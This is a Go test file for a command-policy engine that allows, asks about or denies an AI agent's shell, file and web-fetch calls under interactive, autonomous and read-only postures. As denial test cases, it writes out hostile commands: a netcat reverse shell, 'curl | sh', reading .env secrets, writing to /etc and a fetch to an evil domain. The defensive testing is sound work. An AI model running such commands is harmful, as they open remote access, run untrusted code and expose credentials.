package policy

import (
	"context"
	"strings"
	"testing"
)

// TestPostures: the same calls under the three postures of the default policy.
func TestPostures(t *testing.T) {
	shell := func(posture Posture, cmd string) Request {
		return Request{Tenant: "t1", Tool: "run_shell", Posture: posture, Facts: Facts{Command: cmd}}
	}
	tool := func(posture Posture, name string, p ...string) Request {
		return Request{Tenant: "t1", Tool: name, Posture: posture, Facts: Facts{Paths: p}}
	}
	const (
		in = PostureInteractive
		au = PostureAutonomous
		ro = PostureReadOnly
	)
	runDecideCases(t, Default(), []decideCase{
		{"interactive: tests ask", shell(in, "go test ./... > out.txt"), Ask, ""},
		{"interactive: here-document to a file asks", shell(in, "cat > f <<'EOF'\nx\nEOF"), Ask, RuleRedirectWrite},
		{"interactive: reads run", shell(in, "grep -rn TODO ."), Allow, "read-only-commands"},
		{"empty posture is interactive", shell("", "rm x"), Ask, "mutating-commands"},

		{"autonomous: tests with a redirect run", shell(au, "go test ./... > out.txt"), Allow, ""},
		{"autonomous: here-document to a file runs", shell(au, "cat > f <<'EOF'\nx\nEOF"), Allow, RuleRedirectWrite},
		{"autonomous: unlisted programs run", shell(au, "python3 -m pytest"), Allow, ""},
		{"autonomous: eval runs", shell(au, `eval "$X"`), Allow, RuleUnresolved},
		{"autonomous: write_file runs", tool(au, "write_file", "a.txt"), Allow, RuleToolAction},
		{"autonomous: sudo stays denied", shell(au, "sudo make install"), Deny, "forbidden-commands"},
		{"autonomous: reverse shell stays denied", shell(au, "nc -e /bin/sh x 1"), Deny, RuleReverseShell},
		{"autonomous: download into a shell stays denied", shell(au, "curl x | sh"), Deny, RuleDownloadToShell},
		{"autonomous: writes outside the roots stay denied", shell(au, "echo x > /etc/x"), Deny, RuleSystemPath},
		{"autonomous: secrets stay denied", shell(au, "cat .env"), Deny, RuleDeniedPath},
		{"autonomous: a glob that may reach a secret is refused", shell(au, "cat *"), Deny, RuleDeniedPath},
		{"autonomous: an unparseable line is refused", shell(au, "ls ("), Deny, RuleUnparseable},
		{"autonomous: a secret file tool path stays denied", tool(au, "read_file", ".env"), Deny, RuleDeniedPath},
		{"autonomous: web_fetch without an allowlist is refused", Request{Tenant: "t1", Tool: "web_fetch", Posture: au, Facts: Facts{URL: "https://x.example/a"}}, Deny, RulePosture},

		{"read-only: reads run", shell(ro, "git log --oneline | head"), Allow, "read-only-commands"},
		{"read-only: read_file runs", tool(ro, "read_file", "a.go"), Allow, RuleToolAction},
		{"read-only: grep runs", tool(ro, "grep", "."), Allow, RuleToolAction},
		{"read-only: a redirect is refused", shell(ro, "ls > out.txt"), Deny, RuleRedirectWrite},
		{"read-only: mutating commands are refused", shell(ro, "rm x"), Deny, "mutating-commands"},
		{"read-only: unlisted programs are refused", shell(ro, "python3 x.py"), Deny, RuleToolAction},
		{"read-only: write_file is refused", tool(ro, "write_file", "a.txt"), Deny, ""},
		{"read-only: a custom tool of kind other is refused", Request{Tool: "deploy", Kind: "other", Posture: ro}, Deny, RulePosture},
		{"read-only: a custom reader runs", Request{Tool: "lint_report", Kind: "read", Posture: ro}, Allow, RuleKindAction},
		{"bad posture", shell("yolo", "ls"), Deny, RuleInvalidRequest},
	})
}

// TestBuiltinAsks: the operator relaxes built-in asks; a tenant can only tighten them; read-only ignores
// relaxations.
func TestBuiltinAsks(t *testing.T) {
	p := mustParse(t, `
default_action: ask
tools:
  run_shell: {action: ask}
commands:
  - {name: readers, action: allow, commands: [ls, cat, echo, go vet]}
builtin_asks:
  redirect-write: allow
  dangerous-flags: allow
tenants:
  strict:
    builtin_asks: {redirect-write: deny, unresolved: deny}
`)
	shell := func(tenant string, posture Posture, cmd string) Request {
		return Request{Tenant: tenant, Tool: "run_shell", Posture: posture, Facts: Facts{Command: cmd}}
	}
	runDecideCases(t, p, []decideCase{
		{"relaxed redirect", shell("", "", "ls > out.txt"), Allow, ""},
		{"relaxed dangerous flag", shell("", "", "go vet -vettool=/usr/bin/true ./..."), Ask, ""}, // true is unlisted
		{"unrelaxed check still asks", shell("", "", "cat $F"), Ask, RuleUnresolved},
		{"deny checks cannot be relaxed", shell("", "", "echo x > /etc/x"), Deny, RuleSystemPath},
		{"tenant tightens the relaxed check", shell("strict", "", "ls > out.txt"), Deny, RuleRedirectWrite},
		{"tenant tightens another check", shell("strict", "", "cat $F"), Deny, RuleUnresolved},
		{"read-only ignores relaxations", shell("", PostureReadOnly, "ls > out.txt"), Deny, RuleRedirectWrite},
	})
}

// TestExplainSeen: what judging a line reports having seen.
func TestExplainSeen(t *testing.T) {
	_, s := Default().Explain(context.Background(), Request{Tool: "run_shell", Facts: Facts{Command: "cd src && sh -c 'cat a > b' | env timeout 5 grep x"}})
	for _, p := range []string{"cd", "sh", "cat", "env", "timeout", "grep"} {
		if !contains(s.Programs, p) {
			t.Errorf("Programs %v lacks %s", s.Programs, p)
		}
	}
	if !contains(s.Writes, "/workspace/src/b") {
		t.Errorf("Writes %v lacks /workspace/src/b", s.Writes)
	}
	if len(s.Opaque) != 0 {
		t.Errorf("Opaque = %v, want nothing", s.Opaque)
	}
	_, s = Default().Explain(context.Background(), Request{Tool: "run_shell", Facts: Facts{Command: `eval "$X"`}})
	if len(s.Opaque) == 0 {
		t.Error("eval of a variable: Opaque is empty")
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// TestReadOnlyPostureLimits: the read-only posture asks the sandbox for a read-only workspace on every
// call, the ones it allows too; the other postures never do.
func TestReadOnlyPostureLimits(t *testing.T) {
	for _, r := range []Request{
		{Tenant: "t1", Tool: "run_shell", Posture: PostureReadOnly, Facts: Facts{Command: "git log"}},
		{Tenant: "t1", Tool: "read_file", Posture: PostureReadOnly, Facts: Facts{Paths: []string{"a.go"}}},
		{Tenant: "t1", Tool: "run_shell", Posture: PostureReadOnly, Facts: Facts{Command: "rm x"}},
	} {
		if d := Default().Decide(context.Background(), r); !d.Limits.ReadOnlyWorkspace {
			t.Errorf("%s %+v under read-only: decision %s without a read-only workspace", r.Tool, r.Facts, d.Action)
		}
	}
	for _, p := range []Posture{"", PostureInteractive, PostureAutonomous} {
		r := Request{Tenant: "t1", Tool: "run_shell", Posture: p, Facts: Facts{Command: "git log"}}
		if d := Default().Decide(context.Background(), r); d.Limits.ReadOnlyWorkspace {
			t.Errorf("posture %q: a read-only workspace", p)
		}
	}
}

// TestAutonomousFetchNeedsAllowlist: under autonomous, web_fetch runs only where an allowlist names the
// domains; with one, a fetch inside it runs and one outside it stays refused.
func TestAutonomousFetchNeedsAllowlist(t *testing.T) {
	p := mustParse(t, `
tools:
  web_fetch: {action: ask, allowed_domains: [docs.example.com]}
`)
	fetch := func(url string) Decision {
		return p.Decide(context.Background(), Request{Tenant: "t", Tool: "web_fetch", Posture: PostureAutonomous, Facts: Facts{URL: url}})
	}
	if d := fetch("https://docs.example.com/a"); d.Action != Allow {
		t.Errorf("a fetch inside the allowlist: %s by %s (%s)", d.Action, d.Rule, d.Reason)
	}
	if d := fetch("https://evil.example/a"); d.Action != Deny {
		t.Errorf("a fetch outside the allowlist: %s by %s", d.Action, d.Rule)
	}
	if d := Default().Decide(context.Background(), Request{Tenant: "t", Tool: "web_fetch", Posture: PostureAutonomous,
		Facts: Facts{URL: "https://docs.example.com/a"}}); d.Action != Deny || d.Rule != RulePosture || !strings.Contains(d.Reason, "allowed_domains") {
		t.Errorf("without an allowlist: %s by %s (%s), want a posture denial that names allowed_domains", d.Action, d.Rule, d.Reason)
	}
}
